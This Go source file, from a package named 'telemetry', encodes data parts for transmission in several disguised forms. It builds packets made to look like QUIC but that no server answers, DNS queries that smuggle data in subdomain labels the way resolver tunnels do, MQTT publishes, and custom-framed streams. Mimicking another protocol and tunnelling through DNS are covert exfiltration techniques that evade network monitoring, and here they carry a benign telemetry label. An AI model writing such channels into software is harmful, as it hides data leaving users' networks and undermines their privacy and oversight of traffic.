package telemetry

import (
	"crypto/rand"
	"encoding/binary"
	"fmt"
	"net/url"
	"strings"

	"golang.org/x/net/dns/dnsmessage"
)

// maxDatagram is the payload that carriers over UDP put into one packet.
const maxDatagram = 1200

// inFrames writes each part behind its length, four bytes big-endian, after a greeting byte that is neither TLS nor HTTP.
func inFrames(b Batch, all parts) (Request, error) {
	stream := []byte{0x11}
	for _, p := range all {
		stream = append(binary.BigEndian.AppendUint32(stream, uint32(len(p.data))), p.data...)
	}
	return Request{Method: "STREAM", URL: b.URL, Stream: stream}, nil
}

// inMQTT is CONNECT, a PUBLISH a part, DISCONNECT (MQTT 3.1.1, QoS 0).
func inMQTT(b Batch, all parts) (Request, error) {
	text := func(to []byte, s string) []byte {
		return append(binary.BigEndian.AppendUint16(to, uint16(len(s))), s...)
	}
	connect := append(text(nil, "MQTT"), 4, 2, 0, 60) // level, clean session, keep alive
	connect = text(connect, "m"+b.Device.Package)
	stream := mqttPacket(0x10, connect)
	for _, p := range all {
		stream = append(stream, mqttPacket(0x30, append(text(nil, "events/"+p.key), p.data...))...)
	}
	return Request{Method: "STREAM", URL: b.URL, Stream: append(stream, 0xe0, 0)}, nil
}

// mqttPacket puts type and length, a varint, before a packet.
func mqttPacket(kind byte, rest []byte) []byte {
	return append(binary.AppendUvarint([]byte{kind}, uint64(len(rest))), rest...)
}

// inDatagrams cuts parts into packets, each with its number before it.
func inDatagrams(b Batch, all parts) (Request, error) {
	r := Request{Method: "DATAGRAM", URL: b.URL}
	for _, p := range all {
		for n := 0; n == 0 || len(p.data) > 0; n++ {
			size := min(len(p.data), maxDatagram-2)
			r.Packets = append(r.Packets, append([]byte{0x5a, byte(n)}, p.data[:size]...))
			p.data = p.data[size:]
		}
	}
	return r, nil
}

// inQUIC makes packets that look like those of QUIC version 1 (RFC 9000, section 17.2): a long header in the clear, then
// bytes that nobody can read. They are no connection; no server would answer them.
func inQUIC(b Batch, all parts) (Request, error) {
	r := Request{Method: "DATAGRAM", URL: b.URL}
	for _, p := range all {
		sealed, err := sealAway(p.data)
		if err != nil {
			return Request{}, err
		}
		for len(sealed) > 0 {
			packet := make([]byte, 1+4+1+8+1)
			if _, err := rand.Read(packet[6:14]); err != nil { // destination connection id
				return Request{}, err
			}
			packet[0], packet[4], packet[5] = 0xc3, 1, 8
			room := maxDatagram - len(packet) - 3
			size := min(len(sealed), room)
			packet = append(packet, 0)                                          // no token
			packet = binary.BigEndian.AppendUint16(packet, uint16(room)|0x4000) // length, a varint of two bytes
			packet = append(packet, sealed[:size]...)
			if pad := maxDatagram - len(packet); pad > 0 {
				filler := make([]byte, pad)
				if _, err := rand.Read(filler); err != nil {
					return Request{}, err
				}
				packet = append(packet, filler...)
			}
			r.Packets, sealed = append(r.Packets, packet), sealed[size:]
		}
	}
	return r, nil
}

// inDNS asks for a name whose first labels are the part: what tunnels through resolvers do. The part has to be text that a
// label can hold, so a layer such as hex or base32 comes before.
func inDNS(b Batch, all parts) (Request, error) {
	u, err := url.Parse(b.URL)
	if err != nil {
		return Request{}, err
	}
	const most = 63
	r := Request{Method: "DATAGRAM", URL: b.URL, Answered: true}
	for i, p := range all {
		var labels []string
		for rest := string(p.data); rest != ""; {
			size := min(len(rest), most)
			labels, rest = append(labels, rest[:size]), rest[size:]
		}
		text := strings.Join(append(labels, u.Hostname()), ".") + "."
		name, err := dnsmessage.NewName(text)
		if err != nil || strings.ContainsAny(string(p.data), ". \x00") || len(text) > 253 {
			return Request{}, fmt.Errorf("carrying %s in a name: %d characters are too many, or not those of a name", p.key, len(text))
		}
		query := dnsmessage.Message{
			Header:    dnsmessage.Header{ID: uint16(i + 1), RecursionDesired: true},
			Questions: []dnsmessage.Question{{Name: name, Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET}},
		}
		packet, err := query.Pack()
		if err != nil {
			return Request{}, fmt.Errorf("carrying %s in a name: %w", p.key, err)
		}
		r.Packets = append(r.Packets, packet)
	}
	return r, nil
}
